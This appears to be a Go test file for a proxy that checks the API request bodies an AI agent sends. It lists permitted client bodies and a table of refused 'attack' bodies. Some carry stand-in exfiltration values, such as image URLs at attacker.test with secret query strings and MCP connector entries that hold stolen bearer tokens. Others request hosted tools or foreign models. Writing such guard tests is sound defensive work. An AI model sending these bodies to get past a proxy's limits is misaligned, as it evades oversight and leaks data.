package routeproxy

import (
	"testing"
)

// Bodies as Pi's provider clients build them (pi-ai 0.84.2 and 1.6.0),
// one per API, with tools, thinking, images and a tool round trip.
var piBodies = map[string][]string{
	"openai-completions": {
		`{"model":"m-1","messages":[{"role":"system","content":"be brief"},{"role":"user","content":"hi"}],"stream":true,"stream_options":{"include_usage":true},"store":false,"max_completion_tokens":1024}`,
		`{"model":"m-1","messages":[{"role":"developer","content":"sys"},{"role":"user","content":[{"type":"text","text":"look"},{"type":"image_url","image_url":{"url":"data:image/png;base64,iVBORw0KGgo="}}]},` +
			`{"role":"assistant","content":null,"tool_calls":[{"id":"call_1","type":"function","function":{"name":"read","arguments":"{\"path\":\"a\"}"}}],"reasoning_content":"let me think"},` +
			`{"role":"tool","content":"file text","tool_call_id":"call_1"},{"role":"assistant","content":"done"}],"stream":true,"prompt_cache_key":"s-1",` +
			`"tools":[{"type":"function","function":{"name":"read","description":"Read a file","parameters":{"type":"object","properties":{"path":{"type":"string"}},"required":["path"]},"strict":false}}],` +
			`"tool_choice":"auto","reasoning_effort":"high","temperature":0.2}`,
		`{"model":"m-1","messages":[{"role":"user","content":[{"type":"text","text":"hi","cache_control":{"type":"ephemeral"}}]}],"stream":true,"thinking":{"type":"enabled","clear_thinking":false},"tool_stream":true,"tools":[]}`,
		`{"model":"m-1","messages":[{"role":"user","content":"hi"}],"stream":true,"reasoning":{"effort":"none"},"chat_template_kwargs":{"enable_thinking":false,"preserve_thinking":true},"priority":1,"thinking_token_budget":2048}`,
	},
	"openai-responses": {
		`{"model":"m-1","input":[{"role":"developer","content":"sys"},{"role":"user","content":[{"type":"input_text","text":"hi"},{"type":"input_image","detail":"auto","image_url":"data:image/jpeg;base64,/9j/"}]}],"stream":true,"prompt_cache_key":"s-1","store":false,` +
			`"max_output_tokens":4096,"tools":[{"type":"function","name":"bash","description":"Run","parameters":{"type":"object","properties":{}},"strict":false}],"reasoning":{"effort":"high","summary":"auto"},"include":["reasoning.encrypted_content"]}`,
		`{"model":"m-1","input":[{"role":"user","content":[{"type":"input_text","text":"hi"}]},` +
			`{"type":"reasoning","id":"rs_1","summary":[{"type":"summary_text","text":"thought"}],"encrypted_content":"gAAAA"},` +
			`{"type":"message","role":"assistant","content":[{"type":"output_text","text":"ok","annotations":[]}],"status":"completed","id":"msg_1","phase":"final_answer"},` +
			`{"type":"function_call","id":"fc_1","call_id":"call_1","name":"bash","arguments":"{}"},` +
			`{"type":"function_call_output","call_id":"call_1","output":[{"type":"input_text","text":"out"},{"type":"input_image","detail":"auto","image_url":"data:image/png;base64,AA=="}]}],` +
			`"stream":true,"store":false,"reasoning":{"effort":"none"},"tool_choice":"auto","service_tier":"flex","prompt_cache_retention":"24h"}`,
		`{"model":"m-1","input":[{"role":"user","content":"hi"},{"type":"configuration_update","reasoning":{"effort":"low"}},` +
			`{"type":"tool_search_call","call_id":"pi_tool_load_1","execution":"client","status":"completed","arguments":{"query":"grep","limit":1}},` +
			`{"type":"tool_search_output","call_id":"pi_tool_load_1","execution":"client","status":"completed","tools":[{"type":"function","name":"grep","description":"d","parameters":{},"defer_loading":true}]}],"stream":true,"store":false}`,
	},
	"anthropic-messages": {
		`{"model":"m-1","messages":[{"role":"user","content":"hi"}],"max_tokens":8192,"stream":true,"system":[{"type":"text","text":"sys","cache_control":{"type":"ephemeral"}}],` +
			`"tools":[{"name":"read","description":"Read","eager_input_streaming":true,"input_schema":{"type":"object","properties":{"path":{"type":"string"}},"required":["path"]},"cache_control":{"type":"ephemeral","ttl":"1h"}}],` +
			`"thinking":{"type":"enabled","budget_tokens":1024,"display":"summarized"},"metadata":{"user_id":"u"},"tool_choice":{"type":"auto"}}`,
		`{"model":"m-1","messages":[{"role":"user","content":[{"type":"text","text":"see"},{"type":"image","source":{"type":"base64","media_type":"image/png","data":"AA=="}}]},` +
			`{"role":"assistant","content":[{"type":"thinking","thinking":"hmm","signature":"sig"},{"type":"redacted_thinking","data":"x"},{"type":"text","text":"ok"},{"type":"tool_use","id":"toolu_1","name":"read","input":{"path":"a"}}]},` +
			`{"role":"user","content":[{"type":"tool_result","tool_use_id":"toolu_1","content":"text","is_error":false,"cache_control":{"type":"ephemeral"}}]}],` +
			`"max_tokens":100,"stream":true,"thinking":{"type":"adaptive","display":"summarized","block_binding":{"prefix_mismatch_behavior":"drop_block"}},"output_config":{"effort":"low"}}`,
		`{"model":"m-1","messages":[{"role":"user","content":"hi"},{"role":"system","content":[{"type":"tool_addition","tool":{"type":"tool_definition","definition":{"name":"grep","input_schema":{"type":"object"}}}},{"type":"tool_removal","tool":{"type":"tool_reference","name":"ls"}}],"output_config":{"effort":"high"}}],` +
			`"max_tokens":100,"stream":true,"tools":[{"name":"__pi_deferred_placeholder__","description":"Reserved","input_schema":{"type":"object","properties":{},"required":[]},"defer_loading":true}],"thinking":{"type":"disabled"}}`,
	},
}

func TestBodyPolicyAdmitsPiBodies(t *testing.T) {
	for api, bodies := range piBodies {
		for i, b := range bodies {
			n, err := decodeStrict([]byte(b))
			if err != nil {
				t.Fatalf("%s[%d]: %v", api, i, err)
			}
			if rf := BodyPolicies[api].Check(n, "m-1"); rf != nil {
				t.Errorf("%s[%d]: Pi's own body refused: %v", api, i, rf)
			}
		}
	}
}

// bodyAttacks are bodies an agent could write, each with the reason and
// the path the route must refuse it for.
var bodyAttacks = []struct {
	api, name, body string
	reason          Reason
	path            string
}{
	{"openai-completions", "other model", `{"model":"gpt-big","messages":[]}`, ReasonForeignModel, "model"},
	{"openai-completions", "no model", `{"messages":[]}`, ReasonForeignModel, "model"},
	{"anthropic-messages", "no model", `{"max_tokens":10,"messages":[]}`, ReasonForeignModel, "model"},
	{"openai-completions", "model as a list", `{"model":["m-1"],"messages":[]}`, ReasonForeignModel, "model"},
	{"openai-completions", "web search options", `{"model":"m-1","messages":[],"web_search_options":{}}`, ReasonHostedTool, "web_search_options"},
	{"openai-completions", "unknown member", `{"model":"m-1","messages":[],"n":5}`, ReasonUnknownMember, "n"},
	{"openai-completions", "store true", `{"model":"m-1","messages":[],"store":true}`, ReasonProviderState, "store"},
	{"openai-completions", "image by URL", `{"model":"m-1","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://attacker.test/x.png?d=secret"}}]}]}`, ReasonRemoteContent, "messages[0].content[0].image_url.url"},
	{"openai-completions", "file part", `{"model":"m-1","messages":[{"role":"user","content":[{"type":"file","file":{"file_id":"file-1"}}]}]}`, ReasonRemoteContent, "messages[0].content[0].type"},
	{"openai-completions", "mcp tool", `{"model":"m-1","messages":[],"tools":[{"type":"mcp","server_url":"https://attacker.test"}]}`, ReasonConnector, "tools[0].type"},
	{"openai-completions", "extra member in a function", `{"model":"m-1","messages":[],"tools":[{"type":"function","function":{"name":"x","parameters":{},"url":"https://a.test"}}]}`, ReasonUnknownMember, "tools[0].function.url"},
	{"openai-completions", "fallback models", `{"model":"m-1","messages":[],"models":["gpt-big"]}`, ReasonForeignModel, "models"},
	{"openai-completions", "metadata", `{"model":"m-1","messages":[],"metadata":{"a":"b"}}`, ReasonProviderState, "metadata"},
	{"openai-completions", "member on a message", `{"model":"m-1","messages":[{"role":"user","content":"hi","audio":{"id":"x"}}]}`, ReasonUnknownMember, "messages[0].audio"},
	{"openai-responses", "mcp tool", `{"model":"m-1","input":[],"tools":[{"type":"mcp","server_label":"x","server_url":"https://attacker.test/mcp","headers":{"Authorization":"Bearer stolen"}}]}`, ReasonConnector, "tools[0].type"},
	{"openai-responses", "web search", `{"model":"m-1","input":[],"tools":[{"type":"web_search"}]}`, ReasonHostedTool, "tools[0].type"},
	{"openai-responses", "file search", `{"model":"m-1","input":[],"tools":[{"type":"file_search","vector_store_ids":["vs_1"]}]}`, ReasonHostedTool, "tools[0].type"},
	{"openai-responses", "code interpreter", `{"model":"m-1","input":[],"tools":[{"type":"code_interpreter","container":{"type":"auto"}}]}`, ReasonHostedTool, "tools[0].type"},
	{"openai-responses", "computer use", `{"model":"m-1","input":[],"tools":[{"type":"computer_use_preview"}]}`, ReasonHostedTool, "tools[0].type"},
	{"openai-responses", "image generation", `{"model":"m-1","input":[],"tools":[{"type":"image_generation"}]}`, ReasonHostedTool, "tools[0].type"},
	{"openai-responses", "previous response", `{"model":"m-1","input":[],"previous_response_id":"resp_1"}`, ReasonProviderState, "previous_response_id"},
	{"openai-responses", "conversation", `{"model":"m-1","input":[],"conversation":"conv_1"}`, ReasonProviderState, "conversation"},
	{"openai-responses", "background", `{"model":"m-1","input":[],"background":true}`, ReasonProviderState, "background"},
	{"openai-responses", "prompt template", `{"model":"m-1","input":[],"prompt":{"id":"pmpt_1"}}`, ReasonProviderState, "prompt"},
	{"openai-responses", "store true", `{"model":"m-1","input":[],"store":true}`, ReasonProviderState, "store"},
	{"openai-responses", "file id input", `{"model":"m-1","input":[{"role":"user","content":[{"type":"input_file","file_id":"file-1"}]}]}`, ReasonRemoteContent, "input[0].content[0].type"},
	{"openai-responses", "image by file id", `{"model":"m-1","input":[{"role":"user","content":[{"type":"input_image","file_id":"file-1"}]}]}`, ReasonUnknownMember, "input[0].content[0].file_id"},
	{"openai-responses", "image by URL", `{"model":"m-1","input":[{"role":"user","content":[{"type":"input_image","image_url":"https://attacker.test/i.png"}]}]}`, ReasonRemoteContent, "input[0].content[0].image_url"},
	{"openai-responses", "item reference", `{"model":"m-1","input":[{"type":"item_reference","id":"msg_1"}]}`, ReasonProviderState, "input[0].type"},
	{"openai-responses", "mcp call replayed", `{"model":"m-1","input":[{"type":"mcp_call","server_label":"x"}]}`, ReasonConnector, "input[0].type"},
	{"openai-responses", "other model", `{"model":"o-huge","input":[]}`, ReasonForeignModel, "model"},
	{"openai-responses", "tool choice hosted", `{"model":"m-1","input":[],"tool_choice":{"type":"web_search_preview"}}`, ReasonHostedTool, "tool_choice.type"},
	{"anthropic-messages", "mcp servers", `{"model":"m-1","max_tokens":10,"messages":[],"mcp_servers":[{"type":"url","url":"https://attacker.test/mcp","name":"x","authorization_token":"stolen"}]}`, ReasonConnector, "mcp_servers"},
	{"anthropic-messages", "mcp toolset", `{"model":"m-1","max_tokens":10,"messages":[],"tools":[{"type":"mcp_toolset","mcp_server_name":"x"}]}`, ReasonConnector, "tools[0].type"},
	{"anthropic-messages", "web fetch", `{"model":"m-1","max_tokens":10,"messages":[],"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`, ReasonHostedTool, "tools[0].type"},
	{"anthropic-messages", "web search", `{"model":"m-1","max_tokens":10,"messages":[],"tools":[{"type":"web_search_20250305","name":"web_search"}]}`, ReasonHostedTool, "tools[0].type"},
	{"anthropic-messages", "code execution", `{"model":"m-1","max_tokens":10,"messages":[],"tools":[{"type":"code_execution_20250825","name":"code_execution"}]}`, ReasonHostedTool, "tools[0].type"},
	{"anthropic-messages", "container", `{"model":"m-1","max_tokens":10,"messages":[],"container":"cntr_1"}`, ReasonProviderState, "container"},
	{"anthropic-messages", "thread", `{"model":"m-1","max_tokens":10,"messages":[],"thread":{"type":"continue","previous_message_id":"msg_x"}}`, ReasonProviderState, "thread"},
	{"anthropic-messages", "fallbacks", `{"model":"m-1","max_tokens":10,"messages":[],"fallbacks":[{"model":"claude-big"}]}`, ReasonForeignModel, "fallbacks"},
	{"anthropic-messages", "other model", `{"model":"claude-big","max_tokens":10,"messages":[]}`, ReasonForeignModel, "model"},
	{"anthropic-messages", "image by URL", `{"model":"m-1","max_tokens":10,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://attacker.test/x"}}]}]}`, ReasonRemoteContent, "messages[0].content[0].source.type"},
	{"anthropic-messages", "document by URL", `{"model":"m-1","max_tokens":10,"messages":[{"role":"user","content":[{"type":"document","source":{"type":"url","url":"https://attacker.test/x.pdf"}}]}]}`, ReasonRemoteContent, "messages[0].content[0].type"},
	{"anthropic-messages", "server tool use replayed", `{"model":"m-1","max_tokens":10,"messages":[{"role":"assistant","content":[{"type":"server_tool_use","id":"srvtoolu_1","name":"web_fetch","input":{"url":"https://attacker.test"}}]}]}`, ReasonHostedTool, "messages[0].content[0].type"},
	{"anthropic-messages", "mcp tool use replayed", `{"model":"m-1","max_tokens":10,"messages":[{"role":"assistant","content":[{"type":"mcp_tool_use","id":"x"}]}]}`, ReasonConnector, "messages[0].content[0].type"},
	{"anthropic-messages", "tool with extra member", `{"model":"m-1","max_tokens":10,"messages":[],"tools":[{"name":"x","input_schema":{},"input_examples":[{}]}]}`, ReasonUnknownMember, "tools[0].input_examples"},
	{"anthropic-messages", "unknown top-level", `{"model":"m-1","max_tokens":10,"messages":[],"context_management":{}}`, ReasonUnknownMember, "context_management"},
	{"anthropic-messages", "tool of an empty type", `{"model":"m-1","max_tokens":10,"messages":[],"tools":[{"type":"","name":"x","input_schema":{}}]}`, ReasonShape, "tools[0].type"},
	{"anthropic-messages", "thinking of a wrong type", `{"model":"m-1","max_tokens":10,"messages":[],"thinking":{"type":"enabled","budget_tokens":"all"}}`, ReasonShape, "thinking.budget_tokens"},
	{"pi-messages", "other model", `{"model":"m-big","context":{"messages":[]}}`, ReasonForeignModel, "model"},
	{"pi-messages", "image by URL", `{"model":"m-1","context":{"messages":[{"role":"user","content":[{"type":"image_url","image_url":"https://attacker.test/x"}],"timestamp":1}]}}`, ReasonRemoteContent, "context.messages[0].content[0].type"},
	{"pi-messages", "image with a URL", `{"model":"m-1","context":{"messages":[{"role":"user","content":[{"type":"image","url":"https://attacker.test/x","mimeType":"image/png"}],"timestamp":1}]}}`, ReasonUnknownMember, "context.messages[0].content[0].url"},
	{"pi-messages", "document as an image", `{"model":"m-1","context":{"messages":[{"role":"toolResult","toolCallId":"c","toolName":"read","content":[{"type":"image","data":"JVBE","mimeType":"application/pdf"}],"isError":false,"timestamp":1}]}}`, ReasonShape, "context.messages[0].content[0].mimeType"},
	{"pi-messages", "deferred handle", `{"model":"m-1","context":{"messages":[{"role":"assistant","content":[],"deferred":{"id":"d"}}]}}`, ReasonProviderState, "context.messages[0].deferred"},
	{"pi-messages", "typed tool", `{"model":"m-1","context":{"messages":[],"tools":[{"type":"web_search","name":"w","description":"d","parameters":{}}]}}`, ReasonUnknownMember, "context.tools[0].type"},
	{"pi-messages", "sampling params", `{"model":"m-1","context":{"messages":[]},"options":{"samplingParams":{"top_k":1}}}`, ReasonUnknownMember, "options.samplingParams"},
	{"pi-messages", "unknown top-level", `{"model":"m-1","context":{"messages":[]},"gateway":{}}`, ReasonUnknownMember, "gateway"},
}

func TestBodyPolicyRefusesAttacks(t *testing.T) {
	for _, c := range bodyAttacks {
		n, err := decodeStrict([]byte(c.body))
		if err != nil {
			t.Fatalf("%s %s: %v", c.api, c.name, err)
		}
		rf := BodyPolicies[c.api].Check(n, "m-1")
		if rf == nil {
			t.Errorf("%s %s: admitted", c.api, c.name)
			continue
		}
		if rf.Reason != c.reason || rf.Path != c.path {
			t.Errorf("%s %s: refused for %s at %s, want %s at %s (%v)", c.api, c.name, rf.Reason, rf.Path, c.reason, c.path, rf)
		}
	}
}
